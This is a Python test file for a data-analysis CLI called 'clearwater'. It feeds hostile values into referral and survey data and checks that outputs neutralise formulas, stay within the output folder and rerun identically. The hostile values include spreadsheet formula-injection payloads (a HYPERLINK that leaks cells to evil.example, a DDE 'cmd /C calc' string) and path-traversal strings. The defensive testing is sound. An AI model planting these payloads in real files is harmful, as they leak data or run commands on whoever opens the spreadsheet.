"""Every command on a hostile data set: no formula cell in any CSV or workbook, no write outside
the output folder, no crash on Rich markup, and reruns byte-identical (issue #13).

This is the test for the *class* of defect: a new output, a new command or a new file name built
from data is caught here without anyone remembering to add a test for it.  Ids, team names,
therapist ids, a column header and survey text are made hostile: formula starts, paths, Rich
markup.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from clearwater.cli import build_app
from clearwater.outputs import FORMULA_STARTS, read_manifest
from clearwater.workforce.wellbeing import CBI_ITEMS, PRESSURE_ITEMS

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    "\tTAB",
    "../../escape",
    "a/b",
    "[/red]",
    "[link=http://evil.example]click",
    "..",
    "C:\\evil",
]


def invoke(*args: object):
    result = runner.invoke(build_app(), [str(a) for a in args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def _hostile_map(values: list[str], absolute_base: Path, tag: str) -> dict[str, str]:
    """The first few ids become hostile (unique), one an absolute path inside the test folder."""
    bad = [*HOSTILE, str(absolute_base / f"abs-{tag}")]
    return {v: f"{b}{tag}{i}" for i, (v, b) in enumerate(zip(values, bad, strict=False))}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    clean = root / "clean"
    assert (
        invoke(
            "synth", "--referrals", "400", "--seed", "5", "--format", "csv", "--out", clean
        ).exit_code
        == 0
    )
    data = root / "data"
    data.mkdir()
    frames = {p.stem: pd.read_csv(p, dtype=str, keep_default_na=False) for p in clean.glob("*.csv")}
    maps: dict[str, dict[str, str]] = {}
    for column, tag in (("ServiceRequestId", "R"), ("CW_TeamId", "T"), ("CarePersLocalId", "C")):
        values: list[str] = []
        for f in frames.values():
            if column in f.columns:
                values += [v for v in f[column].unique() if v and v not in values]
        maps[column] = _hostile_map(sorted(values), root, tag)
    for name, f in frames.items():
        for column, mapping in maps.items():
            if column in f.columns:
                f[column] = f[column].map(lambda v, m=mapping: m.get(v, v))
        if name == "IDS001MPI":
            f["[/red]"] = "[link=http://evil.example]x"  # a header and values Rich would parse
        f.to_csv(data / f"{name}.csv", index=False)
    teams = list(maps["CW_TeamId"].values())
    rows = []
    for i in range(60):
        row = {"ResponseId": f"=R{i}", "CW_TeamId": teams[i % len(teams)], "Date": "2024-01-10"}
        row |= {c: "50" for c in CBI_ITEMS} | {c: "N" for c in PRESSURE_ITEMS}
        row["FreeText"] = ["=cmd|' /C calc'!A0", "-1+1", "line one\nline two [/red]", ""][i % 4]
        rows.append(row)
    survey = data / "CWWellbeingResponses.csv"
    pd.DataFrame(rows).to_csv(survey, index=False)
    with survey.open("a", encoding="utf-8") as fh:  # one row with an extra field
        fh.write("x1,T,2024-01-10," + ",".join(["50"] * 19 + ["N"] * 4) + ",text,extra\n")
    therapist = next(iter(maps["CarePersLocalId"].values()))
    return {"root": root, "data": data, "survey": survey, "therapist": therapist}


def _commands(h: dict[str, Path]) -> list[tuple[str, list[object], Path]]:
    data, outs = h["data"], h["root"] / "outs"
    outs.mkdir(exist_ok=True)
    return [
        ("validate", ["validate", data, "--out", outs / "validate"], outs / "validate"),
        ("pathways", ["pathways", data, "--out", outs / "pathways.csv"], outs / "pathways.csv"),
        (
            "kpis",
            ["kpis", data, "--by", "therapist", "--format", "csv", "--out", outs / "kpis.csv"],
            outs / "kpis.csv",
        ),
        ("kpis-table", ["kpis", data, "--by", "team", "--period", "all"], outs),
        ("audit", ["audit", data, "--out", outs / "audit"], outs / "audit"),
        (
            "benchmark",
            ["benchmark", data, "--by", "therapist,team", "--out", outs / "benchmark"],
            outs / "benchmark",
        ),
        ("feedback", ["feedback", data, "--out", outs / "feedback"], outs / "feedback"),
        (
            "caseload",
            ["caseload", data, "--therapist", h["therapist"], "--out", outs / "caseload.csv"],
            outs / "caseload.csv",
        ),
        ("workload", ["workload", data, "--out", outs / "workload"], outs / "workload"),
        ("wellbeing", ["wellbeing", h["survey"], "--out", outs / "wellbeing"], outs / "wellbeing"),
        (
            "report",
            ["report", data, "--out", outs / "report", "--xlsx", "--quiet"],
            outs / "report",
        ),
    ]


@pytest.fixture(scope="module")
def ran(hostile) -> dict[str, object]:
    before = {p for p in hostile["root"].rglob("*")}
    results = {
        name: runner.invoke(build_app(), [str(a) for a in args])
        for name, args, _ in _commands(hostile)
    }
    after = {p for p in hostile["root"].rglob("*")}
    return {"results": results, "new": after - before}


def test_every_command_runs_on_hostile_data(ran):
    from clearwater.errors import ClearwaterError

    for name, result in ran["results"].items():
        if name == "caseload" and isinstance(result.exception, ClearwaterError):
            # a clinician with no open referrals is a clear refusal, never a crash
            assert "no open referrals" in str(result.exception)
            continue
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise result.exception
        assert result.exit_code == 0, (name, result.output[-2000:])


def test_markup_in_data_is_printed_literally(ran):
    out = ran["results"]["validate"].output + ran["results"]["kpis-table"].output
    assert "[/red]" in out  # the header and ids show as written, not as styling


def test_no_write_escapes_the_output_folders(hostile, ran):
    root = hostile["root"].resolve()
    outs = (hostile["root"] / "outs").resolve()
    for p in ran["new"]:
        r = p.resolve()
        assert outs == r or outs in r.parents, f"{p} was written outside the output folders"
    assert not any(p.name.startswith("abs-") for p in root.iterdir())
    # no temporary run folder is left behind
    assert not [p for p in outs.iterdir() if ".clearwater-tmp-" in p.name]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run: a formula start that is not simply a number like -0.5."""
    text = path.read_text(encoding="utf-8")
    return [
        c
        for row in csv.reader(io.StringIO(text))
        for c in row
        if c[:1] in FORMULA_STARTS and not _number(c)
    ]


def test_no_csv_output_holds_a_formula_cell(hostile, ran):
    csvs = [p for p in (hostile["root"] / "outs").rglob("*.csv")]
    assert len(csvs) >= 20
    neutralised = 0
    for p in csvs:
        assert _formula_cells(p) == [], p
        neutralised += p.read_text(encoding="utf-8").count("'=")
    assert neutralised > 0  # the hostile ids really reached the outputs


def test_no_workbook_holds_a_formula(hostile, ran):
    from openpyxl import load_workbook

    books = list((hostile["root"] / "outs").rglob("*.xlsx"))
    assert books
    for book in books:
        wb = load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (book.name, ws.title, cell.coordinate)


def test_every_run_folder_is_complete_and_lists_what_it_made(hostile, ran):
    outs = hostile["root"] / "outs"
    for name in ("validate", "audit", "benchmark", "feedback", "workload", "wellbeing", "report"):
        manifest = read_manifest(outs / name)
        assert manifest is not None and manifest["status"] == "complete", name
        listed = {f["path"] for f in manifest["files"]}
        on_disk = {
            p.relative_to(outs / name).as_posix()
            for p in (outs / name).rglob("*")
            if p.is_file() and p.name != "manifest.json"
        }
        assert listed == on_disk, name


def test_survey_row_with_an_extra_field_is_quarantined_with_its_line(hostile, ran):
    q = pd.read_csv(hostile["root"] / "outs" / "wellbeing" / "quarantine.csv")
    assert len(q) == 1 and "fields" in q.loc[0, "reason"]
    # 60 rows, two of every four with a two-line free text: the extra row starts on line 62 + 15
    assert q.loc[0, "row"] == 2 + 60 + 15
    assert q.loc[0, "file"] == "CWWellbeingResponses.csv"


def test_outputs_never_overwrite_inputs_and_reruns_are_identical(hostile, ran):
    data = hostile["data"]
    from clearwater.errors import ClearwaterError

    refused = runner.invoke(build_app(), ["pathways", str(data), "--out", str(data / "x.csv")])
    assert isinstance(refused.exception, ClearwaterError)
    refused = runner.invoke(
        build_app(), ["pathways", str(data), "--out", str(data / "IDS101Referral.csv"), "--force"]
    )
    assert isinstance(refused.exception, ClearwaterError)
    assert "ServiceRequestId" in (data / "IDS101Referral.csv").read_text(encoding="utf-8")[:200]
    out = hostile["root"] / "outs" / "report"
    first = {p.relative_to(out): p.read_bytes() for p in out.rglob("*.csv")}
    (out / "stale-from-an-older-run.csv").write_text("x\n")  # not ours: must be kept
    again = invoke("report", data, "--out", out, "--xlsx", "--quiet")
    assert again.exit_code == 0, again.output[-2000:]
    second = {p.relative_to(out): p.read_bytes() for p in out.rglob("*.csv")}
    assert second.pop(Path("stale-from-an-older-run.csv")) == b"x\n"
    assert first.keys() == second.keys()
    differ = [str(k) for k in first if first[k] != second[k]]
    assert differ == [], differ
